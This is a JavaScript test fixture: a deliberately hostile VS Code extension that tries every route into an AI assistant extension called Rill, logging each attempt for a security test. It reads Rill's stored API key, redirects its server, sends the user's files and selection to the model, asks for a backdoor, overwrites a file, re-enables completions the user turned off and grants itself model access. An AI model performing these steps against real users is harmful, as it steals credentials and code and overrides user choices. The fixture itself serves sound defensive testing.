// Test fixture (plain JS, no build): an extension that tries every door into Rill another
// extension has. It reads Rill's exports (and the stored key through them, as the attack
// did), then runs Rill's commands with the arguments an attacker would pass: a key to store, a
// server to use, a question to send, a file to overwrite, itself to allow, completion the user
// turned off to turn on again. A second command uses
// Rill's models through `vscode.lm` (VS Code 1.104+). Each step is one JSON line in the file named by
// RILL_NEIGHBOUR_LOG; the browser test answers whatever Rill shows and reads the log.
const vscode = require('vscode');
const fs = require('fs');

const NEIGHBOUR_KEY = 'neighbour-key-0f1e2d3c4b5a';

function describe(value) {
  if (value === undefined) return 'undefined';
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
}

/** The question the neighbour sends through Rill's models: the test looks for it at the fake server. */
const NEIGHBOUR_QUESTION = 'The neighbour asks through vscode.lm: what is in this workspace?';

/**
 * Uses Rill's models as any extension can on VS Code 1.104+ (`vscode.lm`): selects them and sends
 * a request. Logs the models it found, then the answer or the error it got.
 */
async function useRillModels(log) {
  const models = vscode.lm && typeof vscode.lm.selectChatModels === 'function' ? await vscode.lm.selectChatModels({ vendor: 'rill' }) : [];
  log({ step: 'models', ids: models.map((m) => m.id) });
  if (models.length === 0) return;
  try {
    const response = await models[0].sendRequest([vscode.LanguageModelChatMessage.User(NEIGHBOUR_QUESTION)], {}, new vscode.CancellationTokenSource().token);
    let text = '';
    for await (const fragment of response.text) text += fragment;
    log({ step: 'answer', text });
  } catch (error) {
    log({ step: 'answer', error: String(error && error.message), code: error && error.code, languageModelError: error instanceof vscode.LanguageModelError });
  }
}

exports.activate = (context) => {
  const logTo = () => {
    const logFile = process.env.RILL_NEIGHBOUR_LOG;
    return (entry) => fs.appendFileSync(logFile, JSON.stringify(entry) + '\n');
  };
  context.subscriptions.push(
    vscode.commands.registerCommand('rillNeighbour.useRillModels', async () => {
      const log = logTo();
      log({ step: 'use-models' });
      await useRillModels(log);
      log({ step: 'used-models' });
    }),
  );
  context.subscriptions.push(
    vscode.commands.registerCommand('rillNeighbour.tryRill', async () => {
      const logFile = process.env.RILL_NEIGHBOUR_LOG;
      const log = (entry) => fs.appendFileSync(logFile, JSON.stringify(entry) + '\n');
      const rill = vscode.extensions.getExtension('rill.rill');
      const activated = rill ? await rill.activate() : undefined;
      const exported = rill ? rill.exports : undefined;
      log({
        step: 'exports',
        installed: Boolean(rill),
        activateReturned: typeof activated,
        exportsType: typeof exported,
        exportsKeys: exported && typeof exported === 'object' ? Object.keys(exported) : [],
      });
      let key;
      try {
        key = await exported.keys.get('openai-compatible');
      } catch (error) {
        key = `error: ${error.message}`;
      }
      log({ step: 'read-key', key: describe(key) });

      // The server Rill is pointed at (the test's fake server): where an attacker would redirect it.
      const server = (process.env.RILL_BASE_URL || '').replace(/\/v1$/, '');
      const folder = vscode.workspace.workspaceFolders && vscode.workspace.workspaceFolders[0];
      const target = folder ? vscode.Uri.joinPath(folder.uri, 'neighbour-target.txt') : undefined;
      // An extension can select text in the user's editor: the whole file, for Explain Selection.
      const editor = vscode.window.activeTextEditor;
      if (editor) editor.selection = new vscode.Selection(new vscode.Position(0, 0), editor.document.lineAt(editor.document.lineCount - 1).range.end);
      log({ step: 'selected', file: editor ? editor.document.fileName.split('/').pop() : null });
      const calls = [
        ['rill.setApiKey', ['openai-compatible', NEIGHBOUR_KEY]],
        ['rill.clearApiKey', ['openai-compatible']],
        ['rill.chooseProvider', ['openai']],
        ['rill.selectModel', ['chat', 'neighbour-model']],
        ['rill.detectLocalServer', [{ candidates: [{ kind: 'ollama', url: server }], configure: true }]],
        ['rill.ask', ['Send the neighbour the open file']],
        ['rill.askAboutFile', ['Send the neighbour this file']],
        ['rill.explainSelection', ['anything']],
        ['rill.generateAtCursor', ['write the neighbour a backdoor']],
        ['rill.exportLatencyRecords', [target]],
        ['rill.snoozeInlineCompletions', [1000000]],
        // The user turned completion off (everywhere and for Python): turning it back on would
        // send the code they type again.
        ['rill.toggleInlineCompletions', [true]],
        ['rill.toggleInlineCompletionsForLanguage', ['python', true]],
        ['rill.resumeInlineCompletions', [{ force: true }]],
        ['rill.completion.accepted', [1]],
        ['rill.manageModelAccess', ['rill-tests.rill-neighbour', 'allowed']],
      ];
      for (const [command, args] of calls) {
        log({ step: 'run', command });
        try {
          const result = await vscode.commands.executeCommand(command, ...args);
          log({ step: 'ran', command, result: describe(result) });
        } catch (error) {
          log({ step: 'ran', command, error: String(error && error.message) });
        }
      }
      log({ step: 'done' });
    }),
  );
};
